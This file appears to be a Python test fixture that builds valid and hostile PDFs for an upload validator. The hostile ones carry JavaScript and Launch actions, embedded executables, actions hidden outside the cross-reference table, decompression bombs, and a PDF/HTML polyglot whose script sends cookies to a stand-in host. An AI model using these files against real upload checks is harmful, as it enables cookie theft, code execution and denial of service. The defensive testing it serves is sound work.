"""PDF files built byte by byte for the upload tests: a valid one-page document and hostile variants.

Each is a complete file with a correct cross-reference table, so a refusal is for what it carries, not for a
broken structure.
"""
from __future__ import annotations

import zlib


def build(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of the given object bodies (numbered from 1), with its xref table and trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page(text: str = "Acta de prueba", catalog_extra: bytes = b"", page_extra: bytes = b"",
             more: list[bytes] | None = None, content: bytes | None = None) -> bytes:
    body = content if content is not None else stream(
        b"BT /F1 18 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET")
    return build([
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
        body,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(more or []),
    ])


VALID = one_page()
WITH_JAVASCRIPT = one_page(catalog_extra=b" /OpenAction 6 0 R",
                           more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hola'\\)) >>"])
WITH_LAUNCH = one_page(page_extra=b" /AA << /O << /S /Launch /F (cmd.exe) >> >>")
WITH_EMBEDDED_FILE = one_page(
    catalog_extra=b" /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>",
    more=[b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
          stream(b"MZ not really", b" /Type /EmbeddedFile")])
# What the assessment sent: an HTML page that starts with %PDF- so that a check of the first bytes passes.
POLYGLOT_HTML = (b"%PDF-1.4\n<html><body><script>document.location='https://evil.example/?c='+document.cookie"
                 b"</script><h1>Acta</h1></body></html>\n%%EOF\n")


def inflation_bomb(expanded: int = 200 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to ``expanded`` bytes (200 MB from about 200 KB)."""
    deflater = zlib.compressobj(9)
    zeros = b"\0" * (1024 * 1024)
    packed = b"".join(deflater.compress(zeros) for _ in range(expanded // len(zeros))) + deflater.flush()
    return one_page(content=b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed +
                    b"\nendstream")


# --- Issue 19: actions the xref does not show, indirect /S, and chained filters ---------------------------------


def build_listing(objects: list[bytes], listed: dict[int, str], extra_tail: bytes = b"") -> bytes:
    """Like ``build``, but the xref lists only ``listed`` ({number: "n" or "f"}); the other bodies stay in the
    file where a viewer (or pypdf) scanning the bytes finds them."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(listed):
        mark = listed[number].encode()
        out += b"%d 1\n%010d 00000 %s \n" % (number, offsets[number] if mark == b"n" else 0, mark)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out) + extra_tail


def page_objects(catalog_extra: bytes = b"", page_extra: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
        stream(b"BT /F1 18 Tf 72 720 Td (Acta) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hola'\\)) >>"
JAVASCRIPT_OUTSIDE_XREF = build_listing(page_objects(b" /OpenAction 6 0 R") + [JS_ACTION],
                                        {n: "n" for n in range(1, 6)})
JAVASCRIPT_FREE_MARKED = build_listing(page_objects(b" /OpenAction 6 0 R") + [JS_ACTION],
                                       {**{n: "n" for n in range(1, 6)}, 6: "f"})
LAUNCH_INDIRECT_S = one_page(catalog_extra=b" /OpenAction 6 0 R",
                             more=[b"<< /Type /Action /S 7 0 R /F (cmd.exe) >>", b"/Launch"])
GOTOE_INDIRECT_S = one_page(catalog_extra=b" /OpenAction 6 0 R",
                            more=[b"<< /Type /Action /S 7 0 R /T << /R /C /N (x.pdf) >> >>", b"/GoToE"])
LINK = b" /Annots [6 0 R]"


def link_to(action: bytes) -> bytes:
    return one_page(page_extra=LINK, more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 7 0 R >>",
                                          action])


URI_JAVASCRIPT = link_to(b"<< /S /URI /URI (javascript:alert\\(document.cookie\\)) >>")
URI_JAVASCRIPT_BLANKS = link_to(b"<< /S /URI /URI (\\t JavaScript:alert\\(1\\)) >>")
URI_FILE = link_to(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")
GOTOR_UNC = link_to(b"<< /S /GoToR /F (\\\\\\\\servidor\\\\compartido\\\\acta.pdf) /D [0 /Fit] >>")
SUBMIT_FORM = link_to(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/recoger) >> >>")
IMPORT_DATA = link_to(b"<< /S /ImportData /F (datos.fdf) >>")
RENDITION_WITH_JS = link_to(b"<< /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >>")
ESCAPED_NAME_JS = link_to(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
RICH_MEDIA = one_page(page_extra=LINK, more=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"])
ADDITIONAL_ACTIONS = one_page(page_extra=b" /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>")
HTTPS_AND_MAILTO_LINKS = one_page(page_extra=b" /Annots [6 0 R 7 0 R]", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.dnp.gov.co/) >> >>",
    b"<< /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /URI /URI (mailto:alcaldia@genova.gov.co) >> >>"])


def javascript_in_object_stream() -> bytes:
    """The action sits in a compressed object stream that no xref lists; the catalogue points at it."""
    inner = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"7 0 "
    packed = zlib.compress(header + inner)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(header), len(packed)) + packed + b"\nendstream"
    return build_listing(page_objects(b" /OpenAction 7 0 R") + [objstm], {n: "n" for n in range(1, 7)})


def javascript_in_incremental_update() -> bytes:
    """A clean first revision; the update adds the script and a new catalogue pointing at it, and its own
    xref section lists only the catalogue (the script's body is outside every xref)."""
    first = VALID
    previous_xref = int(first.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(first)
    script_offset = len(out)
    out += b"6 0 obj\n" + JS_ACTION + b"\nendobj\n"
    catalog_offset = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % catalog_offset
    out += b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous_xref, xref)
    assert script_offset  # the body is there, only unlisted
    return bytes(out)


def chained_flate_bomb(expanded: int = 225 * 1024 * 1024, stages: int = 2) -> bytes:
    """A content stream Flate-compressed ``stages`` times: a few hundred bytes that inflate to ``expanded``."""
    deflater = zlib.compressobj(9)
    zeros = b"\0" * (1024 * 1024)
    packed = b"".join(deflater.compress(zeros) for _ in range(expanded // len(zeros))) + deflater.flush()
    for _ in range(stages - 1):
        packed = zlib.compress(packed, 9)
    filters = b"[" + b" ".join([b"/FlateDecode"] * stages) + b"]"
    return one_page(content=b"<< /Length %d /Filter %s >>\nstream\n" % (len(packed), filters) + packed +
                    b"\nendstream")
